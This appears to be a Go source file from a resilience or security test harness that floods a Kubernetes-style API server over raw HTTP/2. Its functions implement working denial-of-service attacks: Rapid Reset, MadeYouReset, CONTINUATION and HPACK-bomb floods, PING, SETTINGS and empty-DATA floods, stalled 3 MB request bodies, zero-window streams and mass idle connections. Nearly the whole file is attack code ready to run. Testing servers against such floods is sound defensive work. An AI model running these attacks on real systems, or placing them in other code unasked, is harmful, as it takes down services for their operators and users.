package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// raw is a connection that speaks HTTP/2 frame by frame.
type raw struct {
	*http2.Framer
	conn  net.Conn
	host  string
	token string
	head  bytes.Buffer
	enc   *hpack.Encoder
}

func (s *server) raw(ctx context.Context, token string, settings ...http2.Setting) (*raw, error) {
	conn, err := (&tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}).DialContext(ctx, "tcp", s.host)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { conn.Close() })
	r := &raw{Framer: http2.NewFramer(conn, conn), conn: conn, host: s.host, token: token}
	r.enc = hpack.NewEncoder(&r.head)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	return r, r.WriteSettings(settings...)
}

// block is the header block of a request.
func (r *raw) block(method, path string, pairs ...string) []byte {
	r.head.Reset()
	all := append([]string{":method", method, ":scheme", "https", ":authority", r.host, ":path", path}, pairs...)
	if r.token != "" {
		all = append(all, "authorization", "Bearer "+r.token)
	}
	for i := 0; i < len(all); i += 2 {
		r.enc.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]})
	}
	return r.head.Bytes()
}

func (r *raw) open(id uint32, end bool, method, path string, pairs ...string) error {
	return r.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: r.block(method, path, pairs...), EndHeaders: true, EndStream: end})
}

// frames runs an attack on four connections, opening one again when the server ends it.
func frames(one func(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error) func(context.Context, *server) string {
	return func(ctx context.Context, s *server) string {
		var sent, ended atomic.Int64
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				for ctx.Err() == nil {
					r, err := s.raw(ctx, s.mallory)
					if err == nil {
						err = one(ctx, s, r, &sent)
						r.conn.Close()
					}
					if err != nil && ctx.Err() == nil {
						ended.Add(1)
						time.Sleep(10 * time.Millisecond)
					}
				}
			})
		}
		wg.Wait()
		return fmt.Sprintf("%d frames taken, %d connections ended", sent.Load(), ended.Load())
	}
}

// drain reads the server's frames.
func drain(r *raw) { go io.Copy(io.Discard, r.conn) }

func rapidReset(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	drain(r)
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if err := r.open(id, true, "GET", configMaps+"?limit=1"); err != nil {
			return err
		}
		if err := r.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		sent.Add(2)
	}
	return nil
}

func madeYouReset(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	drain(r)
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if err := r.open(id, true, "GET", configMaps+"?limit=1"); err != nil {
			return err
		}
		for range 2 { // a window above the limit makes the server reset the stream
			if err := r.WriteWindowUpdate(id, 1<<31-1); err != nil {
				return err
			}
		}
		sent.Add(3)
	}
	return nil
}

func continuation(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	drain(r)
	if err := r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: r.block("GET", "/version")}); err != nil {
		return err
	}
	piece := bytes.Repeat([]byte{0x40, 1, 'a', 1, 'b'}, 3000)
	for ctx.Err() == nil {
		if err := r.WriteContinuation(1, false, piece); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}

func hpackBomb(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	drain(r)
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		block := bytes.Clone(r.block("GET", "/version", "x-bomb", string(bytes.Repeat([]byte("x"), 3900))))
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 12000)...) // the newest entry, again and again
		if err := r.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}

func pings(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	for ctx.Err() == nil {
		if err := r.WritePing(false, [8]byte{}); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}

func settings(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	for ctx.Err() == nil {
		if err := r.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}

func emptyData(ctx context.Context, s *server, r *raw, sent *atomic.Int64) error {
	drain(r)
	if err := r.open(1, false, "POST", configMaps, "content-type", "application/json"); err != nil {
		return err
	}
	for ctx.Err() == nil {
		if err := r.WriteData(1, false, nil); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}

// bodies announces many bodies of 3 MB and sends a byte of each.
func bodies(ctx context.Context, s *server) string {
	var o outcomes
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			r, err := s.raw(ctx, s.roleless)
			if err != nil {
				o.add("connections refused")
				return
			}
			wg.Go(func() { r.outcomes(&o) })
			for i := range 1000 {
				id := uint32(2*i + 1)
				if r.open(id, false, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", "content-type", "application/json", "content-length", "3000000") != nil ||
					r.WriteData(id, false, []byte("{")) != nil {
					return
				}
			}
			<-ctx.Done()
		})
	}
	wg.Wait()
	return o.String()
}

// outcomes counts how the server answers the streams.
func (r *raw) outcomes(o *outcomes) {
	r.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		f, err := r.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			o.add(f.PseudoValue("status"))
		case *http2.RSTStreamFrame:
			if f.ErrCode != http2.ErrCodeNo {
				o.add(f.ErrCode.String())
			}
		case *http2.GoAwayFrame:
			o.add("GOAWAY " + f.ErrCode.String())
		}
	}
}

// unread opens streams on which the server may send no data.
func unread(ctx context.Context, s *server, connections, streams int, path string) string {
	var o outcomes
	var wg sync.WaitGroup
	for range connections {
		wg.Go(func() {
			r, err := s.raw(ctx, s.mallory, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				o.add("connections refused")
				return
			}
			wg.Go(func() { r.outcomes(&o) })
			for i := range streams {
				if r.open(uint32(2*i+1), true, "GET", path) != nil {
					return
				}
			}
			<-ctx.Done()
		})
	}
	wg.Wait()
	return o.String()
}

func unreadLists(ctx context.Context, s *server) string { return unread(ctx, s, 20, 100, configMaps) }

func unreadWatches(ctx context.Context, s *server) string {
	var wg sync.WaitGroup
	wg.Go(func() {
		c := newClient(nil)
		for i := 0; i < 2000 && ctx.Err() == nil; i++ {
			s.call(ctx, c, s.mallory, "POST", configMaps, "application/json", big(fmt.Sprint("b", i), 5<<10))
		}
	})
	said := unread(ctx, s, 5, 100, configMaps+"?watch=1")
	wg.Wait()
	return said
}

func idle(ctx context.Context, s *server) string {
	var o outcomes
	var wg sync.WaitGroup
	places := make(chan struct{}, 50)
	for range 2000 {
		wg.Go(func() {
			places <- struct{}{}
			r, err := s.raw(ctx, "")
			<-places
			if err != nil {
				o.add("refused")
				return
			}
			o.add("open")
			<-ctx.Done()
			r.conn.Close()
		})
	}
	wg.Wait()
	return o.String()
}
